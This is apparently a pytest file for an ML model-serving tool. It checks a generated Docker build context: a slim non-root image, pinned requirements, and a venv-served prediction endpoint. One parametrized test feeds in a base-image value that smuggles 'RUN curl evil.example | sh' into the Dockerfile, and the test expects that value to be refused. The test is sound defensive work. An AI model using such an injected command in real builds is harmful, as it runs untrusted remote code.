"""The Docker build context is self-sufficient: without Docker, a fresh virtual environment
installs its requirements and its entrypoint serves the model from the context folder."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pytest
from sklearn.datasets import load_diabetes

from greenbutton.config import Settings
from greenbutton.controller.targets.docker import (
    IMAGE_REFERENCE,
    BuildContext,
    docker_build,
    serve_argv,
    write_build_context,
)
from greenbutton.errors import InvalidInput, NotReady


@pytest.fixture(scope="module")
def context(diabetes_home: Settings, tmp_path_factory: pytest.TempPathFactory
            ) -> BuildContext:
    return write_build_context("models:/diabetes/1", tmp_path_factory.mktemp("ctx") / "ctx",
                               diabetes_home)


def test_dockerfile_is_slim_non_root_with_healthcheck(context: BuildContext) -> None:
    dockerfile = (context.path / "Dockerfile").read_text()
    assert f"FROM python:{sys.version_info[0]}.{sys.version_info[1]}-slim" in dockerfile
    assert "USER 10001" in dockerfile
    assert "HEALTHCHECK" in dockerfile
    assert 'ENTRYPOINT ["greenbutton", "serve", "models:/diabetes/1"]' in dockerfile
    assert "GREENBUTTON_SERVING__MODEL_DIR=/opt/greenbutton/model" in dockerfile
    assert context.tag == "greenbutton/diabetes:1"


def test_requirements_are_pinned_and_include_greenbutton(context: BuildContext) -> None:
    requirements = (context.path / "requirements.txt").read_text().splitlines()
    assert any(line.startswith("./wheels/greenbutton-") for line in requirements)
    constraints = (context.path / "constraints.txt").read_text().splitlines()
    constrained = {line.partition("==")[0] for line in constraints}
    for line in requirements:
        name = line.partition("==")[0]
        assert line.startswith("./") or "==" in line or name in constrained, line
    assert "starlette" in constrained and "scikit-learn" in constrained
    assert (context.path / "model" / "MLmodel").is_file()


def test_docker_build_without_engine_raises_not_ready(context: BuildContext) -> None:
    if subprocess.run(["sh", "-c", "docker info"], capture_output=True).returncode == 0:
        pytest.skip("a Docker engine is reachable here")
    with pytest.raises(NotReady):
        docker_build(context.path, context.tag)


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.mark.slow
@pytest.mark.timeout(900)
def test_context_installs_in_fresh_venv_and_serves(context: BuildContext, tmp_path: Path) -> None:
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    # --no-compile: what is proven is that the pins resolve and serve; byte-compiling every
    # installed module (most never imported by `serve`) took 15 of its 51 s
    pip = [str(venv / "bin" / "python"), "-m", "pip", "install", "--quiet", "--no-compile",
           "-r", "requirements.txt", "-c", "constraints.txt"]
    subprocess.run(pip, cwd=context.path, check=True, timeout=800)  # pip's cache makes reruns fast
    port = _free_port()
    env = {"PATH": f"{venv / 'bin'}:/usr/bin:/bin", "HOME": str(tmp_path),
           "GREENBUTTON_HOME": str(tmp_path / "gbhome"),
           "GREENBUTTON_SERVING__MODEL_DIR": str(context.path / "model")}  # the image's ENV
    entrypoint = serve_argv(context.model, context.version)
    argv = [str(venv / "bin" / entrypoint[0]), *entrypoint[1:],
            "--host", "127.0.0.1", "--port", str(port)]
    server = subprocess.Popen(argv, cwd=context.path, env=env, stdout=subprocess.DEVNULL,
                              stderr=subprocess.PIPE)
    try:
        url = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 120
        while True:
            assert server.poll() is None, server.stderr.read().decode() if server.stderr else ""
            try:
                if httpx.get(f"{url}/health/ready", timeout=2).status_code == 200:
                    break
            except httpx.TransportError:
                pass
            assert time.monotonic() < deadline, "context entrypoint never became ready"
            time.sleep(0.2)
        X, _ = load_diabetes(return_X_y=True, as_frame=True)
        response = httpx.post(f"{url}/predict", timeout=10,
                              json={"inputs": X.head(3).to_dict(orient="records")})
        assert response.status_code == 200, response.text
    finally:
        server.terminate()
        server.wait(timeout=30)
        if server.stderr:
            server.stderr.close()
    assert os.path.isdir(context.path / "model")


@pytest.mark.parametrize("base", ["python:3.11-slim\nRUN curl evil.example | sh",
                                  "python:3.11-slim AS x", "", "Python:3.11"])
def test_base_image_that_could_end_the_from_line_refused(base: str, tmp_path: Path) -> None:
    settings = Settings(home=tmp_path / "gb", _env_file=None)  # type: ignore[call-arg]
    with pytest.raises(InvalidInput):
        write_build_context("models:/diabetes/1", tmp_path / "ctx", settings,
                            base_image=base or " ")
    assert not (tmp_path / "ctx").exists()


def test_base_image_pinned_by_digest_accepted() -> None:
    pinned = "docker.io/library/python:3.11-slim@sha256:" + "a" * 64
    assert IMAGE_REFERENCE.fullmatch(pinned)
